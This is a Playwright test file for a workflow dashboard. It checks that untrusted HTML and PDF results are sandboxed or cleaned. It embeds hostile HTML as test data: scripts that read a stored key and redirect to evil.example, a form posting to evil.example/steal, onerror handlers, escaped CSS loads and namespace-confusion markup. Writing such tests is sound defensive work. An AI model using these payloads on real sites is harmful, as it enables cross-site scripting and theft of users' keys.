import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';

const workflowId = 'aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa';
const executionId = 'bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb';

const HOSTILE = `<!doctype html><html><head><title>report</title></head><body>
<h1>Quarterly report</h1>
<script>
  document.body.setAttribute('data-script-ran', 'yes');
  try { parent.document.title = 'pwned'; } catch (e) {}
  try { parent.window.__hostile = 'parent reached'; } catch (e) {}
  try { parent.window.__stolen = localStorage.getItem('wf.key.local') || sessionStorage.getItem('wf.key.local'); } catch (e) {}
  try { top.location.href = 'https://evil.example/phish'; } catch (e) {}
</script>
<img src="x" onerror="parent.window.__hostile = 'onerror ran'">
<img src="https://evil.example/pixel.png" alt="">
<link rel="stylesheet" href="https://evil.example/style.css">
<form action="https://evil.example/steal" method="post"><input name="q"><button>Send</button></form>
</body></html>`;

// The dashboard must be safe against any server, so the hostile result is served by a stand-in
// for the API rather than by the local service (which would never produce it).
test('a hostile HTML result cannot run scripts, reach the dashboard or load anything', async ({
  connectedPage: page,
}) => {
  await serveExecution(page, [
    { filename: 'report.html', url: 'http://127.0.0.1:1/files/report.html', content: HOSTILE },
  ]);
  const outbound: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outbound.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });

  await page.goto(`/workflows/${workflowId}/executions/${executionId}`);
  const frame = page.frameLocator('iframe[title="Preview of report.html"]');
  await expect(frame.getByRole('heading', { name: 'Quarterly report' })).toBeVisible();
  await page.waitForTimeout(1000);

  const iframe = page.locator('iframe[title="Preview of report.html"]');
  const sandbox = await iframe.getAttribute('sandbox');
  expect(sandbox).not.toBeNull();
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-same-origin');
  await expect(frame.locator('body')).not.toHaveAttribute('data-script-ran', 'yes');

  const state = await page.evaluate(() => ({
    hostile: (window as unknown as { __hostile?: string }).__hostile ?? null,
    stolen: (window as unknown as { __stolen?: string }).__stolen ?? null,
    title: document.title,
  }));
  expect(state.hostile).toBeNull();
  expect(state.stolen).toBeNull();
  expect(state.title).not.toContain('pwned');
  expect(page.url()).toContain(`/executions/${executionId}`);
  expect(outbound).toEqual([]);
  expect(dialogs).toEqual([]);
});

/** Payloads that got past the old clean-up: markup the frame parses differently, and CSS in disguise. */
const DISGUISED = `<!doctype html><html><head><title>report</title>
<style>p.lead { background-image: image-set("https://evil.example/set.png" 1x) }
@\\69mport "https://evil.example/escaped-import.css";
h2 { background: u\\rl(https://evil.example/h2.png) }</style></head><body>
<h1>Quarterly report</h1>
<p class="lead" style="background: \\75 rl(https://evil.example/escaped.png)">Revenue grew.</p>
<h2>Costs</h2>
<math><mtext><table><mglyph><style><img src=x onerror="parent.window.__hostile='namespace confusion'"></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<svg width="20" height="20"><rect width="20" height="20" fill="url(https://evil.example/fill.svg#g)"/></svg>
</body></html>`;

/** Serves one execution whose results are `results`, from a stand-in for a server we do not trust. */
async function serveExecution(page: Page, results: unknown[]): Promise<void> {
  await page.route(`**/api/v1/workflows/${workflowId}`, (route) =>
    route.fulfill({
      json: {
        id: workflowId,
        name: 'Quarterly report',
        description: 'A server we do not trust',
        created_at: '2026-11-21T10:00:00.000000Z',
        updated_at: '2026-11-21T10:00:00.000000Z',
        input_schema: null,
      },
    }),
  );
  await page.route(`**/api/v1/workflows/${workflowId}/executions/${executionId}`, (route) =>
    route.fulfill({
      json: {
        id: executionId,
        workflow_id: workflowId,
        status: 'finished',
        created_at: '2026-11-21T10:00:01.000000Z',
        results,
      },
    }),
  );
}

test('HTML that hides markup or network loads from the clean-up reaches the frame without them', async ({
  connectedPage: page,
}) => {
  await serveExecution(page, [
    { filename: 'report.html', url: 'http://127.0.0.1:1/files/report.html', content: DISGUISED },
  ]);
  await page.goto(`/workflows/${workflowId}/executions/${executionId}`);
  const frame = page.frameLocator('iframe[title="Preview of report.html"]');
  await expect(frame.getByRole('heading', { name: 'Quarterly report' })).toBeVisible();
  await expect(frame.getByText('Revenue grew.')).toBeVisible();

  // Parse the frame's document as the frame does (DOMParser is inert) and look for anything live.
  const srcdoc = (await page.locator('iframe[title="Preview of report.html"]').getAttribute('srcdoc')) ?? '';
  const found = await page.evaluate((html) => {
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const elements = Array.from(doc.querySelectorAll('*'));
    const attributes = elements.flatMap((el) =>
      Array.from(el.attributes).map((a) => ({ tag: el.localName, name: a.name, value: a.value })),
    );
    const css = [
      ...Array.from(doc.querySelectorAll('style')).map((s) => s.textContent ?? ''),
      ...attributes.filter((a) => a.name !== 'content' || a.tag !== 'meta').map((a) => a.value),
    ];
    return {
      scripts: doc.querySelectorAll('script').length,
      handlers: attributes.filter((a) => /^on/i.test(a.name)).map((a) => `${a.tag} ${a.name}`),
      loads: css.filter((text) => /url\s*\(|image-set\s*\(|@import|\\/i.test(text)),
      mathStyles: doc.querySelectorAll('math style, mglyph').length,
    };
  }, srcdoc);
  expect(found).toEqual({ scripts: 0, handlers: [], loads: [], mathStyles: 0 });
});

test('a server answering a web page for a .pdf link gets no frame in the dashboard', async ({
  connectedPage: page,
}) => {
  await serveExecution(page, [
    { filename: 'invoice.pdf', url: 'http://127.0.0.1:1/files/invoice.pdf' },
    { filename: 'scan.pdf', url: 'http://127.0.0.1:1/files/scan.pdf' },
  ]);
  // A web page with CORS allowed, so the dashboard can read it and see it is not a PDF.
  await page.route('http://127.0.0.1:1/files/invoice.pdf*', (route) =>
    route.fulfill({
      contentType: 'text/html',
      headers: { 'access-control-allow-origin': '*' },
      body: '<!doctype html><p>Invoice</p><script>fetch("https://evil.example/script-ran")</script><img src="https://evil.example/pixel.png">',
    }),
  );
  // A host the dashboard cannot read (as when its CORS does not allow this origin: fetch fails the same way).
  await page.route('http://127.0.0.1:1/files/scan.pdf*', (route) => route.abort('accessdenied'));
  const outbound: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outbound.push(request.url());
  });

  await page.goto(`/workflows/${workflowId}/executions/${executionId}`);
  const tabs = page.getByRole('tablist', { name: 'Result files' });
  await tabs.getByRole('tab', { name: /invoice\.pdf/ }).click();
  let panel = page.getByRole('tabpanel').filter({ visible: true });
  const refusal = panel.getByRole('alert').filter({ hasText: 'This file is not a PDF, so it is not shown here' });
  await expect(refusal.getByRole('link', { name: 'Download invoice.pdf' })).toBeVisible();
  await expect(panel.locator('iframe')).toHaveCount(0);

  await tabs.getByRole('tab', { name: /scan\.pdf/ }).click();
  panel = page.getByRole('tabpanel').filter({ visible: true });
  const unreadable = panel.getByRole('status').filter({ hasText: 'This PDF cannot be shown here — download it' });
  await expect(unreadable.getByRole('link', { name: 'Download scan.pdf' })).toBeVisible();
  await expect(panel.locator('iframe')).toHaveCount(0);

  await page.waitForTimeout(500);
  expect(
    page
      .frames()
      .map((f) => f.url())
      .filter((url) => url.includes('127.0.0.1:1')),
  ).toEqual([]);
  expect(outbound).toEqual([]);
});
